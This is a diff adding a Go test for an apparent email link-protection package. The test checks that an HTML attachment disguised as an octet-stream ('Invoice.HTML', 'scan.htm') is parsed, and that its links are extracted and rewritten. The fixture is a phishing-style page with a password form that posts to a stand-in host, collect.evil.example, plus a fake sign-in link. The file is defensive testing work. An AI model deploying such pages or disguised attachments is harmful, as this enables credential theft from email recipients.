@@ -1,0 +1,33 @@
+package links
+
+import (
+	"bytes"
+	"encoding/base64"
+	"testing"
+)
+
+// TestHTMLFileAsOctetStream: an .html file sent as application/octet-stream
+// opens in the browser as a page, so it is read (and locked) like a
+// text/html part.
+func TestHTMLFileAsOctetStream(t *testing.T) {
+	page := `<html><body><form action="https://collect.evil.example/p"><input type="password"></form><a href="https://evil.example/x">Sign in</a></body></html>`
+	for _, header := range []string{
+		"Content-Type: application/octet-stream; name=\"Invoice.HTML\"",
+		"Content-Type: application/octet-stream\r\nContent-Disposition: attachment; filename=\"scan.htm\"",
+	} {
+		msg := []byte("Content-Type: multipart/mixed; boundary=b\r\n\r\n--b\r\nContent-Type: text/plain\r\n\r\nSee attached.\r\n" +
+			"--b\r\n" + header + "\r\nContent-Transfer-Encoding: base64\r\n\r\n" + base64.StdEncoding.EncodeToString([]byte(page)) + "\r\n--b--\r\n")
+		ls, err := Extract(msg, Options{})
+		if err != nil || len(ls) != 2 || ls[0].Kind != KindForm || ls[1].Kind != KindHref || !ls[1].Rewritable() {
+			t.Fatalf("%s: %d links %+v, %v; want a rewritable form and href", header, len(ls), ls, err)
+		}
+		out, err := Rewrite(msg, map[Ref]string{ls[1].Ref(): "https://lock.example/l/1"}, Options{})
+		if err != nil || bytes.Equal(out, msg) {
+			t.Fatalf("%s: Rewrite: %v", header, err)
+		}
+		after, _ := Extract(out, Options{})
+		if len(after) != 2 || after[1].URL != "https://lock.example/l/1" {
+			t.Errorf("%s: after the rewrite %+v", header, after)
+		}
+	}
+}
